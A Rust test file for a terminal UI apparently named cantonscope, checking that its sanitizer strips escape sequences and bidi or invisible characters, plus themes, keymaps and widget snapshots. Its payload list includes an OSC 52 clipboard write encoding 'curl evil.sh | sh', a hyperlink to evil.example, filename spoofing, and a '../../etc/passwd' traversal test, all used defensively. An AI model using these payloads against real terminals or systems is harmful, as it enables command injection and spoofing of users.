//! The UI foundation end to end: untrusted text drawn through ratatui leaves no control or bidi
//! character in the buffer; themes load, patch and stay legible; keymaps come from the config
//! file; widgets draw as the snapshots show, only their visible rows, and never panic at tiny
//! sizes.

use std::borrow::Cow;
use std::cell::Cell;
use std::path::Path;

use chrono::{TimeZone, Utc};
use crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
use ratatui::Terminal;
use ratatui::backend::TestBackend;
use ratatui::buffer::Buffer;
use ratatui::layout::Rect;
use ratatui::style::{Color, Modifier, Style};
use ratatui::text::{Line, Span, Text};
use ratatui::widgets::{Paragraph, Widget, Wrap};
use serde_json::json;

use cantonscope::api::ApiError;
use cantonscope::app::App;
use cantonscope::config::keymap::{KeyContext, KeyMap};
use cantonscope::msg::Command;
use cantonscope::msg::{Action, Effect, Fetched};
use cantonscope::panes::AppContext;
use cantonscope::ui::error_log::ErrorLog;
use cantonscope::ui::help::{HelpOverlay, render_footer_hints};
use cantonscope::ui::json::JsonView;
use cantonscope::ui::layout::{self, render_too_small};
use cantonscope::ui::palette::{Palette, PaletteEntry};
use cantonscope::ui::safe::{needs_replacing, safe_line, sanitize, sanitize_multiline};
use cantonscope::ui::scroll::Scrolled;
use cantonscope::ui::text_input::TextInput;
use cantonscope::ui::theme::{Theme, ThemeError, resolve_theme_name};
use cantonscope::ui::tree::{NodeId, TreeSource, TreeState};

use crate::common::assert_snapshot;
use crate::common::requests as req;

// ---------------------------------------------------------------------------------------------
// Sanitizer

const PAYLOADS: &[&str] = &[
    "\u{1b}[2J\u{1b}[H",
    "\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}",
    "\u{1b}]8;;https://evil.example/\u{1b}\\click me\u{1b}]8;;\u{1b}\\",
    "\u{9b}31mred via C1 CSI",
    "\u{9d}0;title via C1 OSC\u{9c}",
    "\u{1b}P+q544e\u{1b}\\",
    "\u{1b}_APC payload\u{1b}\\",
    "alice\u{202e}gnp.exe",
    "\u{2066}isolate\u{2069}\u{2067}rtl\u{2069}\u{2068}fs\u{2069}",
    "\u{200e}\u{200f}\u{61c}marks",
    "👨\u{200d}👩\u{200d}👧 family",
    "zero\u{200b}width\u{feff}bom\u{2060}joiner",
    "nul\0byte",
    "bell\u{7}back\u{8}space\u{7f}del",
    "tab\there\r\nnewline\nand\rcr",
    "\u{1b}]0;unterminated title",
    "\u{1b}[38;2;255;0;0m日本語\u{1b}[0m",
    "tag\u{e0041}\u{e0042}smuggle",
    "line\u{2028}sep\u{2029}para",
    "\u{1b}",
    "\u{1b}[",
    "\u{9b}",
    "",
];

/// What must never be in a drawn cell.
fn forbidden(c: char) -> bool {
    c.is_control() || needs_replacing(c)
}

fn buffer_forbidden(buf: &Buffer) -> Vec<(u16, u16, String)> {
    let mut bad = Vec::new();
    for y in 0..buf.area.height {
        for x in 0..buf.area.width {
            let sym = buf[(x, y)].symbol();
            if sym.chars().any(forbidden) {
                bad.push((x, y, sym.escape_unicode().to_string()));
            }
        }
    }
    bad
}

/// Deterministic xorshift for generated payloads.
struct Rng(u64);
impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[(self.next() % items.len() as u64) as usize]
    }
}

fn generated_payloads() -> Vec<String> {
    let fragments: &[&str] = &[
        "\u{1b}", "[", "]", "P", "\\", "\u{7}", "\u{9b}", "\u{9c}", "\u{9d}", "\u{90}", "2J", ";",
        "52", "c", "\u{202e}", "\u{2067}", "\u{200d}", "\u{0}", "\n", "\r", "\t", "\u{7f}",
        "\u{85}", "abc", "日本", "é", "👩", "\u{301}", " ", "0", "m", "\u{fe0f}",
    ];
    let mut rng = Rng(0x5eed_1234_abcd_ef01);
    (0..400)
        .map(|_| {
            let n = 1 + (rng.next() % 24) as usize;
            (0..n).map(|_| rng.pick(fragments)).collect()
        })
        .collect()
}

fn all_payloads() -> Vec<String> {
    let mut all: Vec<String> = PAYLOADS
        .iter()
        .map(std::string::ToString::to_string)
        .collect();
    all.push("\u{1b}[2J".repeat(10_000));
    all.push(format!("{}\u{202e}end", "x".repeat(100_000)));
    all.extend(generated_payloads());
    all
}

#[test]
fn sanitized_text_holds_no_forbidden_character() {
    for p in all_payloads() {
        let s = sanitize(&p);
        assert!(!s.chars().any(forbidden), "{p:?} -> {s:?}");
        let m = sanitize_multiline(&p);
        assert!(
            !m.chars().any(|c| c != '\n' && forbidden(c)),
            "{p:?} -> {m:?}"
        );
        // idempotent, and the second pass does not allocate
        assert!(matches!(sanitize(&s), Cow::Borrowed(_)), "{p:?}");
        for width in [0usize, 1, 2, 5, 17, 80] {
            let line = safe_line(&p, width);
            assert!(!line.chars().any(forbidden), "{p:?} @{width} -> {line:?}");
            assert!(
                unicode_width::UnicodeWidthStr::width(line.as_ref()) <= width,
                "{p:?} @{width} -> {line:?}"
            );
        }
    }
}

#[test]
fn paragraphs_of_sanitized_payloads_leave_no_control_in_the_buffer() {
    for p in all_payloads() {
        // single line, cut to the width
        let mut buf = Buffer::empty(Rect::new(0, 0, 40, 1));
        Paragraph::new(Line::from(safe_line(&p, 40))).render(buf.area, &mut buf);
        assert_eq!(buffer_forbidden(&buf), [], "single-line {p:?}");
        // multi-line, wrapped
        let mut buf = Buffer::empty(Rect::new(0, 0, 30, 12));
        Paragraph::new(Text::from(sanitize_multiline(&p).into_owned()))
            .wrap(Wrap { trim: false })
            .render(buf.area, &mut buf);
        assert_eq!(buffer_forbidden(&buf), [], "multi-line {p:?}");
    }
}

#[test]
fn the_buffer_check_catches_unsanitized_text() {
    // Control: ratatui drops lone control and format characters, but invisible characters that
    // attach to the previous grapheme (tag characters used for "ASCII smuggling", zero-width
    // joiners) reach the cells, and an escape sequence's payload shows as text. The sanitizer
    // exists for these, and the checks above would fail without it.
    let mut buf = Buffer::empty(Rect::new(0, 0, 20, 1));
    Paragraph::new("tag\u{e0041}\u{e0042}smuggle").render(buf.area, &mut buf);
    assert!(!buffer_forbidden(&buf).is_empty());
    let mut buf = Buffer::empty(Rect::new(0, 0, 20, 1));
    Paragraph::new("ab\u{200d}cd").render(buf.area, &mut buf);
    assert!(!buffer_forbidden(&buf).is_empty());
    let mut buf = Buffer::empty(Rect::new(0, 0, 20, 1));
    Paragraph::new("x\u{1b}[2Jy").render(buf.area, &mut buf);
    let row: String = (0..5).map(|x| buf[(x, 0)].symbol().to_string()).collect();
    assert_eq!(
        row, "x[2Jy",
        "the escape's payload would show as text without sanitizing"
    );
    // sanitized, the same payloads are visible placeholders
    assert_eq!(
        safe_line("tag\u{e0041}\u{e0042}smuggle", 20),
        "tag��smuggle"
    );
    assert_eq!(safe_line("x\u{1b}[2Jy", 20), "x␛y");
}

#[test]
fn widgets_sanitize_what_they_draw() {
    let theme = Theme::default();
    let nasty = "\u{1b}]8;;http://x\u{1b}\\bob\u{202e}\u{9b}2J";
    // JSON viewer: keys and strings
    let view = JsonView::new(&json!({ nasty: [nasty, {nasty: nasty}] }));
    let mut buf = Buffer::empty(Rect::new(0, 0, 60, 10));
    view.render(buf.area, &mut buf, &theme, true);
    assert_eq!(buffer_forbidden(&buf), []);
    // tree labels from a source that forgot to sanitize
    let src = Small::new(&[(None, nasty), (Some(0), nasty)]);
    let mut state = TreeState::new(&src);
    state.expand_all(&src);
    let mut buf = Buffer::empty(Rect::new(0, 0, 40, 4));
    state.render(&src, buf.area, &mut buf, &theme, true);
    assert_eq!(buffer_forbidden(&buf), []);
    // the app's status line (a server's error text in a toast) and error log
    let app = app_with_scan_error(nasty);
    assert!(app.toast.is_some(), "the error is shown");
    let mut buf = Buffer::empty(Rect::new(0, 0, 80, 24));
    cantonscope::app::draw::render(&app, buf.area, &mut buf);
    assert_eq!(buffer_forbidden(&buf), []);
    let mut log = ErrorLog::default();
    log.push(Utc::now(), nasty, format!("{nasty}\n{nasty}"));
    let mut buf = Buffer::empty(Rect::new(0, 0, 40, 8));
    log.render(buf.area, &mut buf, &theme, false);
    assert_eq!(buffer_forbidden(&buf), []);
}

// ---------------------------------------------------------------------------------------------
// Themes

fn rgb(c: Color) -> (u8, u8, u8) {
    match c {
        Color::Black => (0, 0, 0),
        Color::Red => (205, 0, 0),
        Color::Green => (0, 205, 0),
        Color::Yellow => (205, 205, 0),
        Color::Blue => (0, 0, 238),
        Color::Magenta => (205, 0, 205),
        Color::Cyan => (0, 205, 205),
        Color::Gray => (229, 229, 229),
        Color::DarkGray => (127, 127, 127),
        Color::LightRed => (255, 0, 0),
        Color::LightGreen => (0, 255, 0),
        Color::LightYellow => (255, 255, 0),
        Color::LightBlue => (92, 92, 255),
        Color::LightMagenta => (255, 0, 255),
        Color::LightCyan => (0, 255, 255),
        Color::Rgb(r, g, b) => (r, g, b),
        Color::White | Color::Reset | Color::Indexed(_) => (255, 255, 255),
    }
}

fn luminance(c: Color) -> f64 {
    let (r, g, b) = rgb(c);
    let lin = |v: u8| {
        let v = f64::from(v) / 255.0;
        if v <= 0.039_28 {
            v / 12.92
        } else {
            ((v + 0.055) / 1.055).powf(2.4)
        }
    };
    0.2126 * lin(r) + 0.7152 * lin(g) + 0.0722 * lin(b)
}

fn contrast(a: Color, b: Color) -> f64 {
    let (la, lb) = (luminance(a), luminance(b));
    (la.max(lb) + 0.05) / (la.min(lb) + 0.05)
}

#[test]
fn builtin_themes_load() {
    for name in Theme::names() {
        let theme = Theme::load(name, None).unwrap_or_else(|e| panic!("{name}: {e}"));
        assert_eq!(theme.name, *name);
        assert_ne!(
            theme.selection, theme.base,
            "{name}: selection must stand out"
        );
    }
    assert_eq!(Theme::default(), Theme::load("dark", None).expect("dark"));
}

#[test]
fn mono_has_no_colour_and_marks_selection_with_modifiers() {
    let mono = Theme::load("mono", None).expect("mono");
    for (field, style) in mono.styles() {
        assert_eq!(style.fg, None, "mono {field} has a foreground colour");
        assert_eq!(style.bg, None, "mono {field} has a background colour");
    }
    assert!(mono.selection.add_modifier.contains(Modifier::REVERSED));
    // The unfocused selection is marked too, but differently: two panels side by side (tree
    // and details) must show which one has the keyboard.
    assert!(!mono.selection_unfocused.add_modifier.is_empty());
    assert_ne!(mono.selection, mono.selection_unfocused);
    assert!(
        !mono
            .selection_unfocused
            .add_modifier
            .contains(Modifier::REVERSED)
    );
    assert!(!mono.header.add_modifier.is_empty());
    assert!(!mono.status_err.add_modifier.is_empty());
    assert!(!mono.highlight_match.add_modifier.is_empty());
    assert_ne!(
        mono.accepted, mono.rejected,
        "verdicts stay distinguishable"
    );
}

#[test]
fn light_is_legible_on_white() {
    let light = Theme::load("light", None).expect("light");
    for (field, style) in light.styles() {
        if let Some(fg) = style.fg {
            assert!(
                !matches!(
                    fg,
                    Color::Yellow | Color::LightYellow | Color::White | Color::Gray
                ) || style.bg.is_some(),
                "light {field}: pale foreground {fg:?} on the white background"
            );
        }
        let fg = style.fg.unwrap_or(Color::Black);
        let bg = style.bg.unwrap_or(Color::White);
        let ratio = contrast(fg, bg);
        assert!(
            ratio >= 4.5,
            "light {field}: contrast {ratio:.2} of {fg:?} on {bg:?}"
        );
    }
}

#[test]
fn high_contrast_text_contrast() {
    let hc = Theme::load("high-contrast", None).expect("high-contrast");
    let base_bg = hc.base.bg.unwrap_or(Color::Black);
    for (field, style) in hc.styles() {
        let fg = style.fg.unwrap_or(Color::White);
        let bg = style.bg.unwrap_or(base_bg);
        let ratio = contrast(fg, bg);
        assert!(ratio >= 7.0, "high-contrast {field}: {ratio:.2}");
    }
}

fn write_theme(dir: &Path, name: &str, text: &str) {
    let themes = dir.join("themes");
    std::fs::create_dir_all(&themes).expect("mkdir");
    std::fs::write(themes.join(format!("{name}.toml")), text).expect("write");
}

#[test]
fn user_files_patch_builtins_and_add_themes() {
    let dir = tempfile::tempdir().expect("tempdir");
    write_theme(
        dir.path(),
        "dark",
        "title = { fg = \"red\" }\nmuted = \"#808080\"\n",
    );
    write_theme(
        dir.path(),
        "solar",
        "extends = \"light\"\naccent = \"#268bd2\"\n",
    );
    write_theme(
        dir.path(),
        "plain",
        "selection = { modifiers = [\"reversed\"] }\n",
    );

    let builtin = Theme::load("dark", None).expect("dark");
    let dark = Theme::load("dark", Some(dir.path())).expect("patched dark");
    // fg replaced, modifiers kept
    assert_eq!(dark.title, builtin.title.fg(Color::Red));
    assert_eq!(dark.muted, Style::new().fg(Color::Rgb(0x80, 0x80, 0x80)));
    assert_eq!(dark.header, builtin.header);

    let solar = Theme::load("solar", Some(dir.path())).expect("solar");
    let light = Theme::load("light", None).expect("light");
    assert_eq!(solar.name, "solar");
    assert_eq!(solar.accent, Style::new().fg(Color::Rgb(0x26, 0x8b, 0xd2)));
    assert_eq!(solar.json_key, light.json_key);

    // no `extends`: patches dark
    let plain = Theme::load("plain", Some(dir.path())).expect("plain");
    assert_eq!(plain.json_key, builtin.json_key);
    assert!(plain.selection.add_modifier.contains(Modifier::REVERSED));

    let names = Theme::available(Some(dir.path()));
    assert_eq!(
        names,
        ["dark", "light", "high-contrast", "mono", "plain", "solar"]
    );
}

#[test]
fn theme_errors_are_clear() {
    let dir = tempfile::tempdir().expect("tempdir");
    write_theme(
        dir.path(),
        "broken",
        "base = {}\ntitle = { fg = \"chartreuse-ish\" }\n",
    );
    write_theme(dir.path(), "badbase", "extends = \"nope\"\n");
    let err = Theme::load("broken", Some(dir.path())).expect_err("bad colour");
    let text = err.to_string();
    assert!(matches!(err, ThemeError::Parse { .. }));
    assert!(
        text.contains("broken.toml") && text.contains("line 2"),
        "{text}"
    );
    assert!(matches!(
        Theme::load("missing", Some(dir.path())),
        Err(ThemeError::Unknown { .. })
    ));
    let unknown = Theme::load("missing", Some(dir.path()))
        .expect_err("unknown")
        .to_string();
    assert!(
        unknown.contains("broken") && unknown.contains("mono"),
        "{unknown}"
    );
    assert!(matches!(
        Theme::load("../../etc/passwd", Some(dir.path())),
        Err(ThemeError::InvalidName(_))
    ));
    assert!(matches!(
        Theme::load("badbase", Some(dir.path())),
        Err(ThemeError::Unknown { .. })
    ));
}

#[test]
fn theme_name_resolution_table() {
    let table: &[(Option<&str>, bool, &str)] = &[
        (None, false, "dark"),
        (None, true, "mono"),
        (Some("light"), false, "light"),
        (Some("light"), true, "light"),
        (Some("high-contrast"), true, "high-contrast"),
        (Some("  "), true, "mono"),
    ];
    for (requested, no_color, want) in table {
        assert_eq!(
            resolve_theme_name(*requested, *no_color),
            *want,
            "{requested:?} {no_color}"
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Keymap from the config file

#[test]
fn keys_table_of_the_config_file_reaches_the_keymap() {
    let text =
        "[keys]\nquit = \"ctrl-q\"\n\"tree.parent\" = [\"u\", \"backspace\"]\nhelp = \"f1\"\n";
    let file = cantonscope::config::parse_config(Path::new("config.toml"), text).expect("config");
    let km = KeyMap::from_config(&file.keys).expect("keymap");
    let ev = |code, mods| KeyEvent::new(code, mods);
    let n = KeyModifiers::NONE;
    assert_eq!(
        km.lookup(
            KeyContext::List,
            &ev(KeyCode::Char('q'), KeyModifiers::CONTROL)
        ),
        Some(Command::Quit)
    );
    assert_eq!(
        km.lookup(KeyContext::List, &ev(KeyCode::Char('q'), n)),
        None
    );
    assert_eq!(
        km.lookup(KeyContext::Tree, &ev(KeyCode::Char('u'), n)),
        Some(Command::Parent)
    );
    assert_eq!(
        km.lookup(KeyContext::Tree, &ev(KeyCode::Char('p'), n)),
        None
    );
    assert_eq!(
        km.lookup(KeyContext::List, &ev(KeyCode::F(1), n)),
        Some(Command::Help)
    );
    // help reflects the override
    let help = HelpOverlay::new(&km);
    let parent = help
        .visible_rows()
        .find(|r| r.command == Command::Parent)
        .expect("parent row");
    assert_eq!(parent.keys, "u/Bksp");

    let bad = "[keys]\nfollow_tail = \"x\"\nexport = \"x\"\n";
    let file = cantonscope::config::parse_config(Path::new("c.toml"), bad).expect("config");
    let err = KeyMap::from_config(&file.keys)
        .expect_err("conflict")
        .to_string();
    assert_eq!(
        err,
        "key x is bound to both follow_tail and export in global"
    );
}

// ---------------------------------------------------------------------------------------------
// Snapshots

/// A tree source over a parent table; labels are `(kind, text)`.
struct Small {
    roots: Vec<NodeId>,
    children: Vec<Vec<NodeId>>,
    parents: Vec<Option<NodeId>>,
    labels: Vec<String>,
    label_calls: Cell<usize>,
}

impl Small {
    fn new(nodes: &[(Option<NodeId>, &str)]) -> Self {
        let mut children = vec![Vec::new(); nodes.len()];
        let mut roots = Vec::new();
        for (i, (parent, _)) in nodes.iter().enumerate() {
            match parent {
                Some(p) => children[*p].push(i),
                None => roots.push(i),
            }
        }
        Small {
            roots,
            children,
            parents: nodes.iter().map(|(p, _)| *p).collect(),
            labels: nodes.iter().map(|(_, l)| l.to_string()).collect(),
            label_calls: Cell::new(0),
        }
    }
}

impl TreeSource for Small {
    fn roots(&self) -> &[NodeId] {
        &self.roots
    }
    fn children(&self, id: NodeId) -> &[NodeId] {
        self.children.get(id).map_or(&[], Vec::as_slice)
    }
    fn parent(&self, id: NodeId) -> Option<NodeId> {
        self.parents.get(id).copied().flatten()
    }
    fn label(&self, id: NodeId, theme: &Theme) -> Line<'_> {
        self.label_calls.set(self.label_calls.get() + 1);
        let text = &self.labels[id];
        let (kind, rest) = text.split_once(' ').unwrap_or((text, ""));
        let style = match kind {
            "created" => theme.created,
            "archived" => theme.archived,
            _ => theme.exercised,
        };
        Line::from(vec![
            Span::styled(kind.to_string(), style),
            Span::raw(" "),
            Span::raw(rest),
        ])
    }
}

fn event_tree() -> Small {
    Small::new(&[
        (None, "exercised AmuletRules_Transfer"),        // 0
        (Some(0), "archived Amulet #0012"),              // 1
        (Some(0), "exercised AmuletRules_Transfer_Fee"), // 2
        (Some(2), "created Amulet #0033"),               // 3
        (Some(2), "created TransferCommand"),            // 4
        (Some(0), "created Amulet #0044"),               // 5
        (None, "created ValidatorLicense"),              // 6
        (Some(6), "created ValidatorRight"),             // 7
    ])
}

fn draw(w: u16, h: u16, f: impl FnOnce(Rect, &mut Buffer)) -> Terminal<TestBackend> {
    let mut terminal = Terminal::new(TestBackend::new(w, h)).expect("test terminal");
    terminal
        .draw(|frame| {
            let area = frame.area();
            f(area, frame.buffer_mut());
        })
        .expect("draw");
    terminal
}

#[test]
fn snapshot_tree_widget() {
    let theme = Theme::default();
    let src = event_tree();
    let mut state = TreeState::new(&src);
    state.expand_all(&src);
    state.down(3);
    let t = draw(44, 9, |area, buf| {
        state.render(&src, area, buf, &theme, true);
    });
    assert_snapshot!("tree_expanded", t.backend());
    state.collapse_all(&src);
    let t = draw(44, 4, |area, buf| {
        state.render(&src, area, buf, &theme, true);
    });
    assert_snapshot!("tree_collapsed", t.backend());
}

fn sample_arguments() -> serde_json::Value {
    json!({
        "dso": "DSO::1220e2c0f9a1b6c4d8e7",
        "amount": {"initialAmount": "1250.0000000000", "createdAt": {"number": "8211"}, "ratePerRound": {"rate": "0.0000190259"}},
        "lock": null,
        "holders": (0..130).map(|i| format!("party-{i}::1220ab")).collect::<Vec<_>>(),
        "flags": [true, false],
        "note": "tab\there \u{1b}[31mred\u{1b}[0m"
    })
}

#[test]
fn snapshot_json_viewer() {
    let theme = Theme::default();
    let mut view = JsonView::new(&sample_arguments());
    let t = draw(60, 16, |area, buf| view.render(area, buf, &theme, true));
    assert_snapshot!("json_initial", t.backend());
    view.down(2); // "amount"
    view.toggle();
    let t = draw(60, 16, |area, buf| view.render(area, buf, &theme, true));
    assert_snapshot!("json_amount_open", t.backend());
    view.collapse_all();
    let t = draw(60, 10, |area, buf| view.render(area, buf, &theme, true));
    assert_snapshot!("json_collapsed", t.backend());
}

#[test]
fn snapshot_help_overlay() {
    let theme = Theme::default();
    let km = KeyMap::defaults();
    let help = HelpOverlay::new(&km);
    let t = draw(80, 24, |area, buf| {
        help.render(HelpOverlay::area(area), buf, &theme);
    });
    assert_snapshot!("help_80x24", t.backend());
    let mut help = HelpOverlay::new(&km);
    help.handle_key(&km, &KeyEvent::new(KeyCode::Char('/'), KeyModifiers::NONE));
    for c in "tree".chars() {
        help.handle_key(&km, &KeyEvent::new(KeyCode::Char(c), KeyModifiers::NONE));
    }
    let t = draw(60, 16, |area, buf| help.render(area, buf, &theme));
    assert_snapshot!("help_filtered", t.backend());
}

fn palette() -> Palette {
    Palette::new(vec![
        PaletteEntry::new("event", "open an update by id").arg("update_id"),
        PaletteEntry::new("time", "jump to a record time").arg("ts"),
        PaletteEntry::new("theme", "switch the colour theme").arg_with_values(
            "name",
            Theme::names()
                .iter()
                .map(std::string::ToString::to_string)
                .collect(),
        ),
        PaletteEntry::new("hash", "open an update by hash").arg("hash"),
        PaletteEntry::new("quit", "quit cantonscope"),
    ])
}

#[test]
fn snapshot_palette() {
    let theme = Theme::default();
    let km = KeyMap::defaults();
    let mut p = palette();
    p.open();
    let t = draw(60, 12, |area, buf| p.render(p.area(area), buf, &theme));
    assert_snapshot!("palette_empty", t.backend());
    for c in "th".chars() {
        p.handle_key(&km, &KeyEvent::new(KeyCode::Char(c), KeyModifiers::NONE));
    }
    p.handle_key(&km, &KeyEvent::new(KeyCode::Tab, KeyModifiers::NONE));
    p.handle_key(&km, &KeyEvent::new(KeyCode::Char(' '), KeyModifiers::NONE));
    let t = draw(60, 12, |area, buf| p.render(p.area(area), buf, &theme));
    assert_snapshot!("palette_theme_values", t.backend());
    p.set_input("event");
    p.handle_key(&km, &KeyEvent::new(KeyCode::Enter, KeyModifiers::NONE));
    let t = draw(60, 8, |area, buf| p.render(p.area(area), buf, &theme));
    assert_snapshot!("palette_usage_error", t.backend());
}

#[test]
fn snapshot_error_log_status_and_too_small() {
    let theme = Theme::default();
    let mut log = ErrorLog::default();
    let t0 = Utc
        .with_ymd_and_hms(2026, 1, 2, 3, 4, 5)
        .single()
        .expect("time");
    log.push(t0, "scan", "GET /api/scan/v2/updates: connection refused");
    log.push(
        t0 + chrono::Duration::seconds(7),
        "ledger",
        "HTTP 413 Payload Too Large from /v2/updates/trees: narrow the range (begin 10, end 90000) and retry",
    );
    log.reset_view();
    let t = draw(50, 10, |area, buf| log.render(area, buf, &theme, false));
    assert_snapshot!("error_log", t.backend());

    // The app's footer and status line: an error toast, the error count on the right.
    let app = app_with_scan_error("scan unavailable");
    let mut buf = Buffer::empty(Rect::new(0, 0, 80, 24));
    cantonscope::app::draw::render(&app, buf.area, &mut buf);
    let text = crate::common::buffer_text(&buf);
    let bottom: Vec<&str> = text.lines().skip(22).collect();
    assert!(bottom[1].contains("scan 1 is down"), "{text}");
    assert!(bottom[1].ends_with("! 1 error"), "{text}");
    assert_snapshot!("app_footer_and_status", bottom.join("\n"));

    let t = draw(30, 8, |area, buf| {
        assert!(layout::is_too_small(area));
        render_too_small(area, buf, &theme);
    });
    assert_snapshot!("too_small", t.backend());
}

#[test]
fn snapshot_text_input_with_validation() {
    let theme = Theme::default();
    let mut input = TextInput::single_line().with_placeholder("update id");
    let t = draw(30, 2, |area, buf| input.render(area, buf, &theme, true));
    assert_snapshot!("text_input_placeholder", t.backend());
    input.set_text("12zz");
    input.set_validation(Some("not a hex update id".into()));
    let t = draw(30, 2, |area, buf| input.render(area, buf, &theme, true));
    assert_snapshot!("text_input_validation", t.backend());
}

// ---------------------------------------------------------------------------------------------
// Virtualization and tiny sizes

#[test]
fn tree_of_ten_thousand_nodes_builds_only_visible_labels() {
    // 100 roots with 99 children each.
    let mut nodes: Vec<(Option<NodeId>, String)> = Vec::with_capacity(10_000);
    for r in 0..100 {
        let root = nodes.len();
        nodes.push((None, format!("exercised root{r}")));
        for c in 0..99 {
            nodes.push((Some(root), format!("created child{r}.{c}")));
        }
    }
    let borrowed: Vec<(Option<NodeId>, &str)> =
        nodes.iter().map(|(p, l)| (*p, l.as_str())).collect();
    let src = Small::new(&borrowed);
    let theme = Theme::default();
    let mut state = TreeState::new(&src);
    state.expand_all(&src);
    assert_eq!(state.visible_len(), 10_000);
    state.set_viewport(60);
    state.down(5_000);
    let mut buf = Buffer::empty(Rect::new(0, 0, 200, 60));
    state.render(&src, buf.area, &mut buf, &theme, true);
    assert_eq!(src.label_calls.get(), 60, "one label per visible row");
    // the selected row is on screen
    assert_eq!(state.selected(), Some(5_000));
    let on_screen: String = (0..200)
        .flat_map(|x| (0..60).map(move |y| (x, y)))
        .map(|(x, y)| buf[(x, y)].symbol().to_string())
        .collect();
    assert!(!on_screen.is_empty());
}

#[test]
fn tiny_sizes_never_panic() {
    let theme = Theme::default();
    let km = KeyMap::defaults();
    let src = event_tree();
    let mut tree = TreeState::new(&src);
    tree.expand_all(&src);
    let json = JsonView::new(&sample_arguments());
    let help = HelpOverlay::new(&km);
    let mut p = palette();
    p.set_input("t");
    let mut log = ErrorLog::default();
    log.push(Utc::now(), "scan", "boom ".repeat(50));
    let input = TextInput::multi_line().with_text("a\nb\nc");
    let sizes = [
        (0, 0),
        (1, 1),
        (0, 5),
        (5, 0),
        (2, 1),
        (1, 3),
        (3, 3),
        (10, 2),
        (80, 1),
        (1, 80),
    ];
    for (w, h) in sizes {
        let mut terminal = Terminal::new(TestBackend::new(w, h)).expect("terminal");
        terminal
            .draw(|frame| {
                let area = frame.area();
                let buf = frame.buffer_mut();
                tree.render(&src, area, buf, &theme, true);
                json.render(area, buf, &theme, false);
                help.render(HelpOverlay::area(area), buf, &theme);
                help.render(area, buf, &theme);
                p.render(p.area(area), buf, &theme);
                log.render(area, buf, &theme, true);
                input.render(area, buf, &theme, true);
                render_too_small(area, buf, &theme);
                let areas = layout::screen_areas(area);
                render_footer_hints(
                    &km,
                    KeyContext::Tree,
                    Command::ALL,
                    areas.footer,
                    buf,
                    &theme,
                );
            })
            .expect("draw");
        // and back to a normal size
        terminal.backend_mut().resize(80, 24);
        terminal.autoresize().expect("resize");
        terminal
            .draw(|frame| {
                let area = frame.area();
                json.render(area, frame.buffer_mut(), &theme, true);
            })
            .expect("draw");
    }
}

/// The app with one scan configured whose first `/status` answer is an HTTP 503 with `message`.
fn app_with_scan_error(message: &str) -> App {
    let ctx = AppContext {
        scan_urls: vec!["http://scan.example:5012".into()],
        ..AppContext::default()
    };
    let mut app = App::new(ctx, Theme::default(), KeyMap::defaults(), 1_000_000);
    app.update(Action::Resize(80, 24));
    for effect in app.start() {
        if let Effect::Fetch { id, request } = effect
            && matches!(req::asked(&request), req::Asked::Status(_))
        {
            app.update(Action::Fetched(Box::new(Fetched {
                id,
                request,
                result: Err(ApiError::Scan {
                    endpoint: "scan GET /status",
                    status: 503,
                    message: message.into(),
                }),
                elapsed_ms: 1,
            })));
        }
    }
    app
}
